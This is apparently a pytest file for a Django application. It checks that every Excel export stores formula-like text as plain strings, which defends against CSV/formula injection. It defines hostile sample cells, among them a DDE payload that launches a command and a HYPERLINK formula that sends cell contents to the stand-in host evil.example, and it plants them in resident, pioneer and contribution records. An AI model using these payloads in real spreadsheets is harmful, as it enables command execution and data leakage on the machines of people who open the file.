"""Every Excel export goes through core.spreadsheets.write_xlsx, which stores text that
looks like a formula as text: exported, it is read back as a string, never a formula."""

import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from genxi.cobuild import services as cobuild_services
from genxi.core.spreadsheets import write_xlsx

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'
HOSTILE = [DDE, LINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_the_writer_stores_formula_like_text_as_text():
    content = write_xlsx("导出", ["内容", "数量"], [[text, 3] for text in HOSTILE], ["=1+2"])
    cells = _cells(content)
    by_value = {c.value: c for c in cells}
    for text in [*HOSTILE, "=1+2"]:
        cell = by_value[text.replace("\r", "\n")]  # the text comes back (XML reads CR as LF)
        assert cell.data_type == "s"  # ... as a string, not a formula ("f")
        assert cell.quotePrefix  # and stays text when someone edits it in Excel
    assert not any(c.data_type == "f" for c in cells)
    # Numbers stay numbers; ordinary text carries no quote prefix.
    assert by_value[3].data_type == "n"
    assert not by_value["内容"].quotePrefix


def test_the_writer_drops_characters_xml_cannot_carry():
    cells = _cells(write_xlsx("导出", ["内容"], [["a\x00b\x01c\x1bd"]]))
    assert [c.value for c in cells] == ["内容", "abcd"]


def test_resident_and_pioneer_exports_write_no_formula(client, world):
    world.resident(world.grid_a1, name=DDE, building=LINK)
    world.pioneer(world.grid_a1, "P-X-1", name=LINK, availability="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(world.users["street"])
    for name in ("people:residents", "people:pioneers"):
        response = client.get(reverse(name), {"format": "xlsx"})
        assert response.status_code == 200
        cells = _cells(response.content)
        assert any(c.value in (DDE, LINK) for c in cells)
        assert not [c.coordinate for c in cells if c.data_type == "f"], name


def test_contribution_export_writes_no_formula(client, world):
    need = cobuild_services.need_create(
        actor=world.users["community"],
        community=world.a1,
        title=DDE,
        kind="volunteers",
        quantity=5,
        unit_label="志愿小时",
    )
    claim = cobuild_services.claim_create(
        actor=world.users["unit"], need=need, unit=world.objs["unit_a"], quantity=2
    )
    cobuild_services.claim_approve(actor=world.users["community"], claim=claim)
    cobuild_services.claim_deliver(actor=world.users["unit"], claim=claim, amount=2)
    client.force_login(world.users["community"])
    response = client.get(reverse("cobuild:community", args=[world.a1.pk]), {"format": "xlsx"})
    cells = _cells(response.content)
    assert DDE in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("pattern", [r"\bWorkbook\(", r"csv\.writer"])
def test_no_other_spreadsheet_writer(pattern):
    """One writer: no module but core/spreadsheets.py builds a workbook (tests excepted)."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "tests" not in p.parts
        and p.name != "spreadsheets.py"
        and re.search(pattern, p.read_text(encoding="utf-8"))
    ]
    assert offenders == []
